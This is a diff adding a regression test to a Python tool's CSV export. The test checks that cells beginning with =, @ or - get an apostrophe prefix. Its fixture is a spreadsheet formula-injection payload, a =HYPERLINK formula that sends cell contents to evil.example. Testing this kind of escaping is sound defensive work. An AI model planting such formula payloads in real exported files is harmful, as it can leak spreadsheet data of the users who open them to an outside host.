@@ -198,3 +198,19 @@ def test_after_a_model_change_each_work_is_listed_and_counted_once(tmp_path: Pat
     assert code == 2 and "no results of model version nope" in err
     run_batch(folder, db=db, workers=1, mode="lexicon")  # back to the first model: nothing to scan
     assert {r["model_version"] for r in query()} == {lexicon}
+
+
+def test_csv_cells_that_would_start_a_formula_get_an_apostrophe(tmp_path: Path) -> None:
+    """Regression: a work titled =HYPERLINK(...) was written unchanged, a live formula in a spreadsheet."""
+    folder = tmp_path / "c"
+    folder.mkdir()
+    title = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    (folder / "a.txt").write_text(f"Title: {title}\nRating: @M\n\n{PARA}\n", encoding="utf-8")
+    (folder / "b.txt").write_text(f"Title: -1 plain\n\n{PARA} Two.\n", encoding="utf-8")
+    db = tmp_path / "r.db"
+    run_batch(folder, db=db, workers=1, mode="lexicon")
+    out = tmp_path / "x.csv"
+    assert cli("export", "--db", str(db), "--out", str(out))[0] == 0
+    a, b = csv.DictReader(out.open(encoding="utf-8"))
+    assert a["title"] == "'" + title and a["rating_declared"] == "'@M"
+    assert b["title"] == "'-1 plain" and b["words"].isdigit()
